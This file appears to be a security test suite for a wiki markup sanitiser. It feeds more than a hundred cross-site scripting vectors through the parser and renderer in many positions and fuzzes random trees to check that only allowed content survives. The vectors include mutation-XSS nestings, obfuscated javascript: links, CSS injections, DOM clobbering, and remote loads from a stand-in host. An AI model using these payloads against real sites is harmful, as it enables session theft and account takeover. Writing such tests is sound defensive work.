/** Security rule 12: whatever an author writes, a reader gets allowed elements, attributes and addresses, and nothing else. */
import assert from 'node:assert/strict';
import { suite, test } from 'node:test';
import fc from 'fast-check';
import { parse } from '../../../src/wiki/storage-format/parse.ts';
import { render } from '../../../src/wiki/storage-format/render.ts';
import { safeStyle } from '../../../src/wiki/storage-format/style.ts';
import type { StorageNode } from '../../../src/wiki/storage-format/tree.ts';
import { safeImage, safeLink } from '../../../src/wiki/storage-format/url.ts';
import { assertSafe, context, exportContext } from './support.ts';

/** Ways into a page that have worked somewhere: markup that is one thing to a sanitiser and another to a browser. */
const vectors: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT src="//evil.example/x.js"></SCRIPT>',
  '<img src="x" onerror="alert(1)"/>',
  '<img src=x onerror=alert(1)>',
  '<img src="x` `&lt;script&gt;alert(1)&lt;/script&gt;"/>',
  '<img src="x" OnErRoR="alert(1)"/>',
  '<img/onerror="alert(1)" src="x"/>',
  '<svg onload="alert(1)"/>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><style><!--</style><img src="x" onerror="alert(1)"/>--></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>"></a></style></svg>',
  '<svg><desc><table><thead><s></table></s><style><a title="</style><img src onerror=alert(1)>"/></style></thead></desc></svg>',
  '<svg><foreignObject><p><style><a title="</style>&lt;img src=x onerror=alert(1)&gt;"/></style></p></foreignObject></svg>',
  '<svg><a href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>',
  '<svg><use href="data:image/svg+xml,x"/></svg>',
  '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>',
  '<math><mtext><table><mglyph><style><img src="x" onerror="alert(1)"/></style></mglyph></table></mtext></math>',
  '<math><mi href="javascript:alert(1)">x</mi></math>',
  '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style></mglyph></form></mtext></math></form>',
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  '<math xmlns:xlink="http://www.w3.org/1999/xlink"><maction xlink:href="javascript:alert(1)">x</maction></math>',
  '<style>@import url(//evil.example/x.css);</style>',
  '<style><img src="&lt;/style&gt;&lt;img src=x onerror=alert(1)&gt;"/></style>',
  '<noscript><p title="&lt;/noscript&gt;&lt;img src=x onerror=alert(1)&gt;">x</p></noscript>',
  '<template><script>alert(1)</script></template>',
  '<template shadowrootmode="open"><img src="x" onerror="alert(1)"/></template>',
  '<textarea>&lt;/textarea&gt;&lt;img src=x onerror=alert(1)&gt;</textarea>',
  '<title>&lt;/title&gt;&lt;img src=x onerror=alert(1)&gt;</title>',
  '<xmp>&lt;/xmp&gt;&lt;img src=x onerror=alert(1)&gt;</xmp>',
  '<plaintext>x</plaintext>',
  '<noembed>&lt;/noembed&gt;&lt;script&gt;alert(1)&lt;/script&gt;</noembed>',
  '<noframes>&lt;/noframes&gt;&lt;img src=x onerror=alert(1)&gt;</noframes>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"/>',
  '<iframe src="javascript:alert(1)"/>',
  '<object data="javascript:alert(1)"/>',
  '<embed src="javascript:alert(1)"/>',
  '<applet code="x"/>',
  '<base href="//evil.example/"/>',
  '<link rel="stylesheet" href="//evil.example/x.css"/>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)"/>',
  '<body onload="alert(1)">x</body>',
  '<html onclick="alert(1)"><head/></html>',
  '<form action="javascript:alert(1)"><input type="submit"/></form>',
  '<input autofocus="" onfocus="alert(1)"/>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<select><option><style>&lt;/style&gt;&lt;img src=x onerror=alert(1)&gt;</style></option></select>',
  '<keygen autofocus="" onfocus="alert(1)"/>',
  '<isindex type="image" src="1" onerror="alert(1)"/>',
  '<marquee onstart="alert(1)">x</marquee>',
  '<video><source onerror="alert(1)"/></video>',
  '<audio src="x" onerror="alert(1)"/>',
  '<details open="" ontoggle="alert(1)">x</details>',
  '<dialog open="" onclose="alert(1)">x</dialog>',
  '<portal src="javascript:alert(1)"/>',
  '<bgsound src="javascript:alert(1)"/>',
  '<layer src="//evil.example/"/>',
  '<frameset onload="alert(1)"><frame src="javascript:alert(1)"/></frameset>',
  '<custom-element is="x" onclick="alert(1)">x</custom-element>',
  '<p is="x-y" slot="z" part="q" itemid="javascript:alert(1)">x</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java&#9;script:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="java&#13;script&#58;alert(1)">x</a>',
  '<a href="&#32;&#10;javascript:alert(1)">x</a>',
  '<a href="javascript&#x3a;alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="&#1;javascript:alert(1)">x</a>',
  '<a href="&nbsp;javascript:alert(1)">x</a>',
  '<a href="&zwnj;javascript:alert(1)">x</a>',
  '<a href="&#x202e;javascript:alert(1)">x</a>',
  '<a href="javascript://%0aalert(1)">x</a>',
  '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="blob:https://x/1">x</a>',
  '<a href="view-source:javascript:alert(1)">x</a>',
  '<a href="filesystem:https://x/1">x</a>',
  '<a href="//evil.example" target="_top" rel="opener" ping="//evil.example" download="x">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="x" style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">x</a>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="color:expression(alert(1))">x</p>',
  '<p style="color:red;/**/background-image:url(//evil.example)">x</p>',
  '<p style="colo\\72:red;-moz-binding:url(//evil.example)">x</p>',
  '<p style="color:red&#59;behavior:url(x)">x</p>',
  '<p style="width:calc(1px);color:var(--x);display:none">x</p>',
  '<p style="color:rgb(0,0,0);}body{display:none">x</p>',
  '<p id="login-form" class="w-button app-header" name="csrf">x</p>',
  '<img name="getElementById" id="cookie" src="/x"/>',
  '<form id="x" name="attributes"><input name="parentNode"/></form>',
  '<table background="javascript:alert(1)"><tr background="javascript:alert(1)"><td background="javascript:alert(1)"/></tr></table>',
  '<table><td>x<img src="y" onerror="alert(1)"/></td><style>z</style></table>',
  '<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)" srcset="//evil.example 1x" src="javascript:alert(1)"/>',
  '<img src="data:image/svg+xml;base64,PHN2Zy8+"/>',
  '<blockquote cite="javascript:alert(1)">x</blockquote>',
  '<q cite=" java&#10;script:alert(1)">x</q>',
  '<!-- --!><img src="x" onerror="alert(1)"/> -->',
  '<!--><img src="x" onerror="alert(1)"/>-->',
  '<!-- <img title="--&gt;&lt;img src=x onerror=alert(1)&gt;"/> -->',
  '<![CDATA[<img src="x" onerror="alert(1)">]]>',
  '<ac:plain-text-body><![CDATA[</pre><script>alert(1)</script>]]></ac:plain-text-body>',
  '<ac:structured-macro ac:name="html"><ac:plain-text-body><![CDATA[<script>alert(1)</script>]]></ac:plain-text-body></ac:structured-macro>',
  '<ac:structured-macro ac:name="html-include"><ac:parameter ac:name="url">//evil.example</ac:parameter></ac:structured-macro>',
  '<ac:structured-macro ac:name="widget"><ac:parameter ac:name="_template">file:///etc/passwd</ac:parameter></ac:structured-macro>',
  '<ac:structured-macro ac:name="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;"/>',
  '<ac:structured-macro ac:name="info" ac:macro-id="&quot; onmouseover=&quot;alert(1)"><ac:rich-text-body><svg onload="alert(1)"/></ac:rich-text-body></ac:structured-macro>',
  '<ac:structured-macro ac:name="panel"><ac:parameter ac:name="bgColor">red;background:url(javascript:alert(1))</ac:parameter></ac:structured-macro>',
  '<ac:structured-macro ac:name="anchor"><ac:parameter ac:name="">login&quot; onclick=&quot;alert(1)</ac:parameter></ac:structured-macro>',
  '<ac:link><ri:url ri:value="javascript:alert(1)"/><ac:link-body><script>alert(1)</script></ac:link-body></ac:link>',
  '<ac:link ac:anchor="&quot; onclick=&quot;alert(1)"/>',
  '<ac:image ac:alt="&quot; onerror=&quot;alert(1)" ac:style="position:fixed" ac:class="w-x"><ri:url ri:value="javascript:alert(1)"/></ac:image>',
  '<ac:image><ri:url ri:value="https://x/&quot; onerror=&quot;alert(1)"/></ac:image>',
  '<ac:emoticon ac:name="&quot; onclick=&quot;x" ac:emoji-fallback="&lt;script&gt;"/>',
  '<ac:inline-comment-marker ac:ref="&quot; onclick=&quot;x">x</ac:inline-comment-marker>',
  '<time datetime="&quot; onclick=&quot;x"/>',
  '<h1>&lt;img src=x onerror=alert(1)&gt;</h1><ac:structured-macro ac:name="toc"/>',
  '<p lang="&quot; onclick=&quot;x" dir="&quot;" title="&quot; onclick=&quot;x">&quot;&apos;`</p>',
  '<p xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xhtml"><x:script>alert(1)</x:script></p>',
  '<ac:script xmlns:ac="http://www.w3.org/1999/xhtml">alert(1)</ac:script>',
  '<__proto__ onclick="x"/>',
  '<p __proto__="x" constructor="y" toString="z">x</p>',
];

const escaped = (value: string) =>
  value.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');

/** Places that take an author's string. */
const places: Readonly<Record<string, (vector: string) => string>> = {
  'as markup': (vector) => vector,
  'as markup in a cell': (vector) => `<table><tbody><tr><td>${vector}</td></tr></tbody></table>`,
  'as markup in a row': (vector) => `<table><tr>${vector}</tr></table>`,
  'as markup in a macro': (vector) =>
    `<ac:structured-macro ac:name="expand"><ac:rich-text-body>${vector}</ac:rich-text-body></ac:structured-macro>`,
  'as markup in a parameter': (vector) =>
    `<ac:structured-macro ac:name="panel"><ac:parameter ac:name="title">${vector}</ac:parameter></ac:structured-macro>`,
  'as text': (vector) => `<p>${escaped(vector)}</p>`,
  'as a title': (vector) => `<p title="${escaped(vector)}">x</p>`,
  'as an address': (vector) => `<a href="${escaped(vector)}">x</a><img src="${escaped(vector)}"/>`,
  'as a style': (vector) => `<p style="${escaped(vector)}" class="${escaped(vector)}">x</p>`,
  'as a heading': (vector) => `<ac:structured-macro ac:name="toc"/><h1>${escaped(vector)}</h1>`,
  'as names of macros and parameters': (vector) =>
    `<ac:structured-macro ac:name="${escaped(vector)}" ac:macro-id="${escaped(vector)}"><ac:parameter ac:name="${escaped(vector)}">x</ac:parameter></ac:structured-macro>`,
  'as parameters': (vector) =>
    ['code', 'panel', 'status', 'column', 'anchor', 'toc', 'expand']
      .map((name) => {
        const parameters = [
          '',
          'title',
          'language',
          'theme',
          'colour',
          'width',
          'bgColor',
          'borderStyle',
          'separator',
          'style',
          'include',
        ];
        const written = parameters.map((parameter) => `<ac:parameter ac:name="${parameter}">${escaped(vector)}</ac:parameter>`);
        return `<ac:structured-macro ac:name="${name}">${written.join('')}</ac:structured-macro>`;
      })
      .join(''),
  'as a plain body': (vector) =>
    `<ac:structured-macro ac:name="noformat"><ac:plain-text-body><![CDATA[${vector.replaceAll(']]>', '')}]]></ac:plain-text-body></ac:structured-macro>`,
  'in links and images': (vector) =>
    [
      'ri:page ri:content-title',
      'ri:attachment ri:filename',
      'ri:user ri:username',
      'ri:url ri:value',
      'ri:space ri:space-key',
      'ri:shortcut ri:key',
    ]
      .map((resource) => {
        const written = `<${resource}="${escaped(vector)}"/>`;
        return `<ac:link ac:anchor="${escaped(vector)}">${written}</ac:link><ac:image ac:alt="${escaped(vector)}" ac:title="${escaped(vector)}">${written}</ac:image>`;
      })
      .join(''),
};

suite(`${vectors.length} vectors, each in ${Object.keys(places).length} places, are refused or harmless`, () => {
  for (const vector of vectors) {
    test(vector, () => {
      for (const [place, put] of Object.entries(places)) {
        const parsed = parse(put(vector));
        const mustParse = !place.includes('markup');
        if (parsed.type === 'error') assert.ok(!mustParse || /Illegal character/.test(parsed.text), `${place}: ${parsed.text}`);
        else for (const within of [context, exportContext]) assertSafe(render(parsed, within));
      }
    });
  }
});

suite('an address', () => {
  const refused =
    `javascript:x JAVASCRIPT:x java\tscript:x \u0001javascript:x \u00a0javascript:x data:x vbscript:x file:///x blob:x about:blank
    ws://x x:y :x jar:x mhtml:x ms-settings:x \\javascript:x`.split(/ +|\n +/);
  for (const address of refused.filter((written) => !written.startsWith('\\'))) {
    test(`${JSON.stringify(address)} is refused`, () => {
      assert.equal(safeLink(address), undefined);
      assert.equal(safeImage(address), undefined);
    });
  }
  for (const [address, cleaned = address] of [
    ['https://x/?a=b:c'],
    ['HTTP://x'],
    ['mailto:a@b.example'],
    ['tel:+1'],
    ['/a:b'],
    ['?a:b'],
    ['#a:b'],
    ['a/b:c'],
    ['//x'],
    [''],
    [' \n/x\t', '/x'],
    ['/\tx\u0000', '/x'],
  ] as const) {
    test(`${JSON.stringify(address)} is allowed`, () => assert.equal(safeLink(address), cleaned));
  }
  test('of an image is one of the web', () => {
    assert.equal(safeImage('https://x/y'), 'https://x/y');
    assert.equal(safeImage('mailto:x@y'), undefined);
  });
});

suite('a style', () => {
  const refused = `color:expression(alert(1)) color:url(x) color:var(--x) color:red/**/ color:\\72ed color:image-set(x) width:calc(1px)
    width:99999px width:-1px width:1vw margin-left:-9px text-align:x position:fixed display:none background:red opacity:0 z-index:1
    float:left font-size:99px font-family:x content:"x" transform:none white-space:x list-style-type:url(x) constructor:x __proto__:x color`;
  for (const declaration of refused.split(/\s+/))
    test(`${declaration} is refused`, () => assert.equal(safeStyle(declaration), undefined));
  const kept =
    'color: #0af; color: rgba(0, 0, 0, 0.5); width: 33.3333%; height: auto; margin-left: 30.0px; text-decoration: underline;';
  test('of colours, lengths and alignments is kept', () => assert.equal(safeStyle(kept), kept));
});

suite('for any tree', () => {
  const word = fc.oneof(
    fc.constantFrom(
      ...vectors,
      'javascript:alert(1)',
      'Home',
      'logo.png',
      'k1',
      'true',
      'color: red',
      'https://x',
      '"',
      "'",
      '`',
      '\n',
      '',
    ),
    fc.string({ unit: 'grapheme', maxLength: 12 }).map((value) => value.replace(/[^\t\n\r\u0020-\ud7ff\ue000-\ufffd]/g, '')),
  );
  const elementName = fc.constantFrom(
    ...'p div span h1 h2 br hr pre a img ul ol li dl dt dd table caption colgroup col thead tbody tr th td font time script style svg math iframe template noscript __proto__ constructor'.split(
      ' ',
    ),
    ...'ac:structured-macro ac:macro ac:parameter ac:rich-text-body ac:plain-text-body ac:link ac:link-body ac:plain-text-link-body ac:image ac:caption ac:layout ac:layout-section ac:layout-cell ac:task-list ac:task ac:task-id ac:task-status ac:task-body ac:emoticon ac:placeholder ac:inline-comment-marker ac:adf-extension ac:adf-fallback ri:page ri:attachment ri:user ri:url ri:space at:var x:y'.split(
      ' ',
    ),
  );
  const attributeName = fc.constantFrom(
    ...'id class style title href src alt name onclick onerror width height colspan start type data-x __proto__ constructor datetime cite lang dir target'.split(
      ' ',
    ),
    ...'ac:name ac:macro-id ac:anchor ac:type ac:ref ac:alt ac:title ac:width ac:align ac:thumbnail ri:content-title ri:filename ri:userkey ri:value ri:space-key xmlns'.split(
      ' ',
    ),
  );
  const macroName = fc.constantFrom(
    'code',
    'noformat',
    'info',
    'panel',
    'expand',
    'toc',
    'anchor',
    'status',
    'section',
    'column',
    'excerpt',
    'details',
    'x',
    '__proto__',
  );
  const attributes = fc
    .array(fc.tuple(attributeName, word), { maxLength: 4 })
    .chain((pairs) =>
      macroName.map(
        (macro): Record<string, string> => Object.assign(Object.create(null), { 'ac:name': macro }, Object.fromEntries(pairs)),
      ),
    );
  const { node } = fc.letrec<{ node: StorageNode; text: StorageNode; element: StorageNode }>((tie) => ({
    node: fc.oneof({ depthSize: 'medium', withCrossShrink: true }, tie('text'), tie('element')),
    text: fc
      .tuple(fc.constantFrom('text', 'cdata'), word)
      .map(([type, value]): StorageNode => ({ type: type === 'text' ? 'text' : 'cdata', value, start: 0 })),
    element: fc
      .tuple(elementName, attributes, fc.array(tie('node'), { maxLength: 4 }))
      .map(
        ([name, written, children]): StorageNode => ({ type: 'element', name, attributes: written, children, start: 0, end: 0 }),
      ),
  }));

  test('the output, read again, holds only what is allowed', () => {
    fc.assert(
      fc.property(fc.array(node, { maxLength: 5 }), fc.boolean(), (children, exported) => {
        assertSafe(render({ type: 'document', children }, exported ? exportContext : context));
      }),
      { numRuns: 2000 },
    );
  });

  test('the output stays within its limit, give or take what was open', () => {
    fc.assert(
      fc.property(fc.array(node, { maxLength: 5 }), fc.integer({ min: 0, max: 2000 }), (children, output) => {
        const rendered = render({ type: 'document', children }, context, { output, depth: 20 });
        assertSafe(rendered);
        assert.ok(rendered.length < 10 * output + 60_000);
      }),
      { numRuns: 500 },
    );
  });
});

test('any string is refused or rendered harmlessly', () => {
  const parts = fc.constantFrom(
    '<p>',
    '</p>',
    '<a href="',
    '">',
    '</a>',
    '<br/>',
    '&lt;',
    '&amp;',
    'javascript:',
    '<ac:link>',
    '</ac:link>',
    '<ri:page ri:content-title="Home"/>',
    'x',
    '"',
    "'",
    '<b',
    ' onclick="',
    '/>',
    '<!--',
    '-->',
  );
  fc.assert(
    fc.property(fc.array(parts, { maxLength: 12 }), (pieces) => {
      const parsed = parse(pieces.join(''));
      if (parsed.type === 'document') assertSafe(render(parsed, context));
    }),
    { numRuns: 3000 },
  );
});
